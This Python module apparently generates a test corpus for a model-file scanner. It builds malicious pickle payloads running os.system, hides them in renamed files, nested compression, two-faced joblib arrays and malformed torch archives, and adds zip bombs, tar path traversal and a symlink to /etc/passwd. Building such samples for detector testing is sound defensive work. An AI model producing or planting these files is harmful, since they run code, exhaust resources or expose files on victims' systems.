"""Bad files in other clothes: renamed, compressed, and torch archives that lie about themselves."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import tarfile
import zlib

import numpy as np

from momus.zoo.supply_chain.corpus import (
    COMMAND,
    Artifact,
    Member,
    blob,
    call,
    named,
    payload,
    stream,
    text,
    torch_zip,
    zipped,
)
from momus.zoo.supply_chain.corpus_bad_pickles import _legacy_header


def files(seed: int, *, large: bool = True) -> tuple[Artifact, ...]:
    """All of them; ``seed`` draws the numbers of the harmless arrays around the payloads.

    ``large`` = False leaves out the two that take a second to compress.
    """
    return (*_clothed(seed), *_torch(), *(_large() if large else ()))


def _large() -> list[Artifact]:
    """Zeros that take a thousandth of their size when compressed."""
    bomb = zipped([Member("weights.bin", bytes(80 << 20), deflate=True)])
    zeros = gzip.compress(bytes(96 << 20), mtime=0)
    return [
        Artifact("zip bomb", "torch and archives", "n.zip", bomb),
        Artifact("gzip of zeros", "renamed and compressed", "zeros.gz", zeros, "", True),
    ]


def _function() -> bytes:
    """A pickle that rebuilds a function from its bytecode and calls it."""
    code = compile(f"__import__('os').system('{COMMAND}')", "m", "eval")
    function = call(named("types", "FunctionType"), call(named("marshal", "loads"), blob(marshal.dumps(code))), b"}")
    return stream(call(function))


def _by_value() -> bytes:
    """A function as cloudpickle writes it: its code, not its name."""
    kind = call(named("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType"))
    code = call(kind, *[b"K\x00"] * 6, blob(b"\x97\x00d\x00S\x00"))
    return stream(call(named("cloudpickle.cloudpickle", "_make_function"), code, b"}", b"N", b"N", b"N"))


def _clothed(seed: int) -> list[Artifact]:
    import joblib

    out = io.BytesIO()
    joblib.dump({"w": np.random.default_rng(seed).normal(size=(4, 3))}, out)
    with_array = out.getvalue()[:-1] + b"0" + payload()[2:]
    made = [
        ("picture by name", "photo.png", payload(), "pickle"),
        ("safetensors by name", "model.safetensors", payload(), "pickle"),
        ("bz2", "model.bz2", bz2.compress(payload()), "joblib"),
        ("gzip", "model.joblib", gzip.compress(payload(), mtime=0), "joblib"),
        ("zlib", "model.joblib.z", zlib.compress(payload()), "joblib"),
        ("xz", "model.xz", lzma.compress(payload()), "joblib"),
        ("lzma", "model.lzma", lzma.compress(payload(), format=lzma.FORMAT_ALONE), "joblib"),
        ("code object", "code.dill", _function(), "pickle"),
        ("cloudpickle function", "function.cpkl", _by_value(), ""),
        ("behind a joblib array", "array.joblib", with_array, "joblib"),
        ("array bytes are instructions", "both.joblib", _two_faced(), "pickle"),
        ("gzip in gzip", "twice.gz", gzip.compress(gzip.compress(payload(), mtime=0), mtime=0), ""),
    ]
    late = {"gzip in gzip"}
    return [Artifact(n, "renamed and compressed", f, d, how, n in late) for n, f, d, how in made]


def _two_faced() -> bytes:
    """joblib.load skips the array's bytes, pickle.load runs them as instructions."""
    import joblib

    hidden = b"0" + payload()[2:]
    array = np.frombuffer(hidden.ljust(64, b"."), dtype=np.uint8)
    out = io.BytesIO()
    joblib.dump({"w": array}, out)
    data = out.getvalue()
    at = data.index(hidden)
    start = at - 1 - (at - len(data[:at].rstrip(b"\xff")))
    # joblib skips as many bytes as the first one says and never looks at them; N is 78, and an instruction
    return data[:start] + b"N" * 79 + data[at:]


def _torch() -> list[Artifact]:
    evil = payload()
    good = stream(b"}")
    made = [
        ("plain", "a.pt", torch_zip(evil), "torch"),
        ("wrong checksum", "b.pt", torch_zip(evil, crc=1), ""),
        ("flagged as encrypted", "c.pt", torch_zip(evil, flags=1), ""),
        ("two names", "d.pt", torch_zip(evil, local_name="model/readme.x"), ""),
        (
            "prefix",
            "e.pt",
            zipped([Member("model/data.pkl", evil), Member("model/version", b"3\n")], prefix=b"GIF89a" * 9),
            "",
        ),
        ("before torch 1.6", "f.pt", _legacy_header() + evil + stream(b"]"), "torch"),
        ("deflated", "g.pt", torch_zip(evil, deflate=True), "torch"),
        ("extra member", "h.pt", torch_zip(good, [Member("model/extra.pkl", evil)]), ""),
        ("hidden behind the tensors", "i.pt", torch_zip(good, [Member("model/data/0", evil)]), ""),
        ("two data.pkl", "j.pt", torch_zip(good, [Member("model/DATA.PKL", evil)]), ""),
        ("7z", "k.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64) + evil, ""),
        ("tar leaves its folder", "l.tar", _tar("../../evil.pkl", evil), ""),
        ("tar with a pickle", "m.tar", _tar("model/data.pkl", evil), ""),
        ("zip in zip", "o.zip", zipped([Member("inner.zip", torch_zip(evil), deflate=True)]), ""),
        ("tar link", "p.tar", _tar("model/data.pkl", b"", link="/etc/passwd"), ""),
        ("pickle in front of a zip", "q.pt", zipped([Member("model/data.pkl", good)], prefix=evil), "pickle"),
    ]
    late = {"tar link", "pickle in front of a zip"}
    return [Artifact(n, "torch and archives", f, d, how, n in late) for n, f, d, how in made]


def _tar(name: str, data: bytes, link: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo(name)
        entry.size = len(data)
        if link:
            entry.type, entry.linkname = tarfile.SYMTYPE, link
        archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()
